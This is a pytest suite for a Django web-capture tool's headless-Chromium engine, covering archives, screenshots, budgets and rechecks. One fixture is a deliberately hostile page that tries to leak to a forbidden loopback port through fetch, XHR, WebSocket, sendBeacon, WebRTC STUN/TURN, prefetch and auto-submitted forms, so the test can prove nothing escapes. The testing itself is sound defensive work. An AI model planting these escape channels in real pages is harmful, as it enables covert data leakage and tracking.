"""The browser engine: a page as a reader saw it, and nothing reached that we did not allow.

Real Chromium (Debian's) through Playwright, real HTTP servers on 127.0.0.1; with CI=true a
missing Chromium fails these tests rather than skipping them.
"""

import hashlib
import json
import socket
import struct
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest
from django.test import TestCase
from warcio.archiveiterator import ArchiveIterator

from sources.capture import capture_attempt
from sources.engines import browser
from sources.models import Artefact, Source
from sources.services import source_add

from .support.commands import run_capture_command
from .support.httpserver import Reply
from .support.services import unavailable

pytestmark = [pytest.mark.browser, pytest.mark.django_db]

ARTICLE_TEXT = (
    "The defence ministers of Russia and Belarus signed an agreement on Tuesday that extends "
    "their joint regional air defence system for five more years, officials said in Minsk. "
    "The system was first agreed in 2009 and covers the airspace of both countries."
)
# The article exists only once a script has fetched it: the HTML alone has no text.
JS_PAGE = """<!doctype html><html lang="en"><head><title>Loading</title>
<link rel="stylesheet" href="{css}"><script src="{js}"></script></head>
<body><div id="root">Loading…</div><img src="{img}" alt=""></body></html>"""
APP_JS = """document.addEventListener("DOMContentLoaded", async () => {
  const data = await (await fetch("%s")).json();
  document.title = data.title;
  document.getElementById("root").innerHTML =
    "<article><h1>" + data.title + "</h1><p>" + data.text + "</p></article>";
});"""
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40">'
    b'<rect width="40" height="40"/></svg>'
)


@pytest.fixture(scope="module", autouse=True)
def chromium_present():
    if not Path(browser.chromium_path() or "/nonexistent").exists():
        unavailable("Chromium not found (apt-get install chromium, or set CHROMIUM_PATH)")
    yield
    browser.shutdown()


@pytest.fixture
def browser_settings(capture_settings):
    capture_settings.CAPTURE_ENGINE = "browser"
    capture_settings.CAPTURE_BROWSER_DEADLINE = 10.0
    capture_settings.CAPTURE_BROWSER_QUIET = 0.3
    return capture_settings


def js_article(site):
    data = site.add(
        "data.json",
        Reply(
            json.dumps({"title": "Air defence pact extended", "text": ARTICLE_TEXT}),
            content_type="application/json",
        ),
    )
    js = site.add("app.js", Reply(APP_JS % data, content_type="text/javascript"))
    css = site.add("site.css", Reply("body { color: #222 }", content_type="text/css"))
    img = site.add("logo.svg", Reply(SVG, content_type="image/svg+xml"))
    html = JS_PAGE.format(css=css, js=js, img=img)
    url = site.add("article", Reply(html))
    SERVED[url] = html.encode()
    return url


SERVED = {}  # url -> the document's bytes as served


def capture(url, engine="browser"):
    source = source_add(url=url, enqueue=False)
    # Archives and artefacts move into place when the row commits (sources/staging.py).
    with TestCase.captureOnCommitCallbacks(execute=True):
        step = capture_attempt(source_pk=source.pk, engine=engine)
    return step.capture


def warc_records(capture):
    with capture.archive.open("rb") as handle:
        return [
            (r.rec_type, r.rec_headers.get_header("WARC-Target-URI"), r.content_stream().read())
            for r in ArchiveIterator(handle)
        ]


def png_size(data):
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


def test_a_javascript_rendered_article_is_captured_with_its_text_and_every_resource(
    site, browser_settings
):
    url = js_article(site)
    got = capture(url)
    assert got.outcome == "ok" and got.engine == "browser"
    assert "extends their joint regional air defence system" in got.text
    assert got.title == "Air defence pact extended"
    # The digest is the document's, as the http engine would have it (recheck compares it).
    assert got.sha256 == hashlib.sha256(SERVED[url]).hexdigest()
    records = warc_records(got)
    kinds = [kind for kind, _, _ in records]
    assert kinds[0] == "warcinfo" and b"ClaimWorkbench" in records[0][2]
    responses = {uri for kind, uri, _ in records if kind == "response"}
    assert url in responses
    assert len([u for u in responses if u.endswith(("app.js", "site.css", "logo.svg"))]) == 3
    assert any(u.endswith("data.json") for u in responses)
    assert kinds.count("request") == kinds.count("response") == got.resources == 5
    # warcio's own checker accepts the file (digests of every record).
    check = subprocess.run(
        [str(Path(sys.executable).parent / "warcio"), "check", got.archive.path],
        capture_output=True,
        text=True,
    )
    assert check.returncode == 0, check.stdout + check.stderr


def test_the_screenshots_are_valid_pngs_and_every_artefact_carries_its_digest(
    site, browser_settings
):
    got = capture(js_article(site))
    artefacts = {a.kind: a for a in got.artefacts.all()}
    assert set(artefacts) == {"screenshot", "viewport", "dom", "wacz"}
    for artefact in artefacts.values():
        data = artefact.file.read()
        assert artefact.size == len(data)
        assert artefact.sha256 == hashlib.sha256(data).hexdigest()
    assert png_size(artefacts["viewport"].file.open("rb").read()) == (1280, 900)
    width, height = png_size(artefacts["screenshot"].file.open("rb").read())
    assert width == 1280 and 0 < height <= 12000
    assert "extends their joint" in artefacts["dom"].file.open("rb").read().decode()


def test_the_wacz_has_its_index_pages_and_hashes(site, browser_settings):
    got = capture(js_article(site))
    wacz = Artefact.objects.get(capture=got, kind="wacz")
    with zipfile.ZipFile(wacz.file.open("rb")) as archive:
        names = set(archive.namelist())
        assert names == {
            "archive/data.warc.gz",
            "indexes/index.cdxj",
            "pages/pages.jsonl",
            "datapackage.json",
            "datapackage-digest.json",
        }
        package = json.loads(archive.read("datapackage.json"))
        assert package["wacz_version"] == "1.1.1"
        for resource in package["resources"]:
            data = archive.read(resource["path"])
            assert resource["hash"] == "sha256:" + hashlib.sha256(data).hexdigest()
            assert resource["bytes"] == len(data)
        digest = json.loads(archive.read("datapackage-digest.json"))
        assert (
            digest["hash"]
            == "sha256:" + hashlib.sha256(archive.read("datapackage.json")).hexdigest()
        )
        pages = archive.read("pages/pages.jsonl").decode().splitlines()
        assert json.loads(pages[0])["format"] == "json-pages-1.0"
        assert json.loads(pages[1])["url"] == got.final_url
        index = archive.read("indexes/index.cdxj").decode().splitlines()
        assert len(index) == got.resources and index == sorted(index)
        assert archive.getinfo("archive/data.warc.gz").compress_type == zipfile.ZIP_STORED


class Listener:
    """A loopback port the fetcher is NOT allowed to reach: counts TCP connections and UDP
    datagrams, so a test can prove that nothing got there."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(50)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp_port = self.udp.getsockname()[1]
        self.connections = 0
        self.datagrams = 0
        self.tcp.settimeout(0.2)
        self.udp.settimeout(0.2)
        self.running = True
        for target in (self._accept, self._receive):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self):
        while self.running:
            try:
                conn, _ = self.tcp.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def _receive(self):
        while self.running:
            try:
                self.udp.recvfrom(2048)
            except (TimeoutError, OSError):
                continue
            self.datagrams += 1

    def close(self):
        self.running = False
        self.tcp.close()
        self.udp.close()


HOSTILE = """<!doctype html><html><head><title>Hostile</title>
<link rel="dns-prefetch" href="//{bad}/">
<link rel="preconnect" href="http://{bad}/">
<link rel="prefetch" href="http://{bad}/prefetch">
<link rel="stylesheet" href="http://{bad}/style.css">
<script src="http://{bad}/script.js"></script>
</head><body>
<article><h1>Hostile</h1><p>{text}</p></article>
<img src="http://{bad}/img.png"><img src="{redirect}">
<iframe src="http://{bad}/frame"></iframe>
<video src="http://[::ffff:127.0.0.1]:{port}/v.mp4"></video>
<form id="f" method="post" action="http://{bad}/post"><input name="a" value="b"></form>
<script>
fetch("http://{bad}/fetch").catch(() => {{}});
const x = new XMLHttpRequest(); x.open("GET", "http://{bad}/xhr"); x.send();
try {{ new WebSocket("ws://{bad}/ws"); }} catch (e) {{}}
try {{ new EventSource("http://{bad}/events"); }} catch (e) {{}}
navigator.sendBeacon("http://{bad}/beacon", "x");
if (navigator.serviceWorker) navigator.serviceWorker.register("sw.js").catch(() => {{}});
try {{
  const pc = new RTCPeerConnection({{iceServers: [
    {{urls: "stun:127.0.0.1:{udp}"}},
    {{urls: "turn:127.0.0.1:{udp}?transport=udp", username: "u", credential: "c"}}]}});
  pc.createDataChannel("leak");
  pc.createOffer().then(o => pc.setLocalDescription(o));
}} catch (e) {{}}
setTimeout(() => document.getElementById("f").submit(), 300);
</script></body></html>"""


def test_a_hostile_page_reaches_nothing_that_is_not_allowed(site, browser_settings):
    bad = Listener()
    try:
        authority = f"127.0.0.1:{bad.port}"
        redirect = site.add(
            "redirect", Reply(status=302, headers={"Location": f"http://{authority}/hop"})
        )
        url = site.add(
            "hostile",
            Reply(
                HOSTILE.format(
                    bad=authority,
                    port=bad.port,
                    udp=bad.udp_port,
                    redirect=redirect,
                    text=ARTICLE_TEXT,
                )
            ),
        )
        got = capture(url)
        time.sleep(1.5)  # anything that escaped would have arrived by now
        assert (bad.connections, bad.datagrams) == (0, 0)
        assert got.outcome == "ok" and "regional air defence" in got.text
        # The redirect itself was fetched (allowed site); its target never was.
        assert len(site.hits(redirect)) == 1
        uris = {uri for kind, uri, _ in warc_records(got) if kind == "response"}
        assert not any(authority in uri for uri in uris)
    finally:
        bad.close()


def test_the_resource_budget_stops_a_page_with_too_many_resources(site, browser_settings):
    browser_settings.CAPTURE_BROWSER_MAX_RESOURCES = 8
    images = [site.add(f"img{i}.svg", Reply(SVG, content_type="image/svg+xml")) for i in range(30)]
    body = "".join(f'<img src="{u}">' for u in images)
    url = site.add("many", Reply(f"<html><body><p>{ARTICLE_TEXT}</p>{body}</body></html>"))
    got = capture(url)
    assert got.outcome == "ok" and got.resources <= 8
    assert sum(len(site.hits(u)) for u in images) <= 7


def test_the_byte_budget_caps_what_one_capture_downloads(site, browser_settings):
    browser_settings.CAPTURE_BROWSER_MAX_BYTES = 250_000
    big = b"x" * 100_000
    images = [site.add(f"big{i}.bin", Reply(big, content_type="image/png")) for i in range(6)]
    body = "".join(f'<img src="{u}">' for u in images)
    url = site.add("heavy", Reply(f"<html><body><p>{ARTICLE_TEXT}</p>{body}</body></html>"))
    got = capture(url)
    assert got.outcome == "ok"
    stored = sum(len(data) for kind, _, data in warc_records(got) if kind == "response")
    assert stored <= 250_000 + 2_000  # payloads plus their HTTP headers


def trickle_forever(handler):
    handler.send_response(200)
    handler.send_header("Content-Type", "image/png")
    handler.send_header("Content-Length", "1000000")
    handler.end_headers()
    for _ in range(200):  # 40 s at most, far beyond any deadline here
        handler.wfile.write(b"x")
        handler.wfile.flush()
        time.sleep(0.2)


def test_a_page_that_never_finishes_loading_is_captured_as_it_is_at_the_deadline(
    site, browser_settings
):
    browser_settings.CAPTURE_BROWSER_DEADLINE = 3.0
    slow = site.add("slow.png", trickle_forever)
    url = site.add(
        "never-done", Reply(f'<html><body><p>{ARTICLE_TEXT}</p><img src="{slow}"></body></html>')
    )
    got = capture(url)
    assert got.outcome == "ok" and "regional air defence" in got.text
    assert "still loading at the deadline" in got.error_message
    assert Artefact.objects.filter(capture=got, kind="screenshot").exists()


def test_the_command_reports_engine_resources_screenshot_pages_and_text(site, browser_settings):
    url = js_article(site)
    rows, error = run_capture_command(url, "--sync", "--json", "--with-text", "--engine", "browser")
    assert error is None
    row = rows[0]
    assert row["engine"] == "browser" and row["resources"] == 5 and row["pages"] is None
    screenshot = Artefact.objects.get(capture_id=row["capture"], kind="screenshot")
    assert row["screenshot"] == screenshot.sha256
    assert row["text_chars"] == len(row["text"]) and "five more years" in row["text"]


def test_the_http_engine_stays_available_and_says_so(site, browser_settings):
    url = js_article(site)
    rows, error = run_capture_command(url, "--sync", "--json", "--engine", "http")
    assert rows[0]["engine"] == "http" and rows[0]["resources"] == 1
    assert rows[0]["screenshot"] is None and "five more years" not in rows[0]["title"]


# A clock on the page: every render differs (screenshot, DOM), the document does not.
CLOCK = f"""<html><body><p>{ARTICLE_TEXT}</p><p id="t"></p>
<script src="%s"></script></body></html>"""


def test_recheck_with_the_browser_engine_finds_changed_content_but_not_a_new_screenshot(
    site, browser_settings, finished, django_capture_on_commit_callbacks
):
    clock = site.add(
        "clock.js",
        Reply(
            'document.getElementById("t").textContent = Date.now();', content_type="text/javascript"
        ),
    )
    url = site.add("clock", Reply(CLOCK % clock))
    with django_capture_on_commit_callbacks(execute=True):
        first = capture(url)
    source = Source.objects.get(url=url)

    def recapture():
        source.refresh_from_db()
        Source.objects.filter(pk=source.pk).update(status="pending", lease_expires_at=None)
        with django_capture_on_commit_callbacks(execute=True):
            return capture_attempt(source_pk=source.pk).capture

    second = recapture()
    shots = Artefact.objects.filter(kind="screenshot", capture__in=[first, second])
    assert shots.count() == 2
    assert second.sha256 == first.sha256 and finished[-1]["content_changed"] is False
    site.set(url, Reply((CLOCK % clock).replace("five more years", "ten more years")))
    third = recapture()
    assert third.engine == "browser" and "ten more years" in third.text
    assert finished[-1]["content_changed"] is True


def test_browser_capture_failure_of_the_document_is_recorded_like_the_http_engine(
    site, browser_settings
):
    url = site.add("gone", Reply(status=404))
    got = capture(url)
    assert got.outcome == "failed" and got.error_code == "http_404"
    assert not Artefact.objects.filter(capture=got).exists()


def test_one_worker_renders_at_most_capture_browser_pages_pages_at_once(site, browser_settings):
    from concurrent.futures import ThreadPoolExecutor

    from sources.fetch import fetch

    browser_settings.CAPTURE_BROWSER_PAGES = 1
    browser.shutdown()  # the next browser takes the setting
    slow = [
        site.add(f"slow-{n}.svg", Reply(SVG, content_type="image/svg+xml", delay=0.5))
        for n in range(3)
    ]
    urls = [
        site.add(f"turn-{n}", Reply(f'<html><body><p>{ARTICLE_TEXT}</p><img src="{image}">'))
        for n, image in enumerate(slow)
    ]
    try:
        with ThreadPoolExecutor(3) as pool:
            rendered = list(pool.map(lambda url: browser.render(fetch(url)), urls))
    finally:
        browser.shutdown()  # the others get the default back
    assert all(len(page.results) == 2 for page in rendered)
    # Each page's slow image was asked for only once the page before it was done with.
    arrivals = sorted(site.hits(image)[0].at for image in slow)
    assert min(b - a for a, b in zip(arrivals, arrivals[1:], strict=False)) >= 0.5
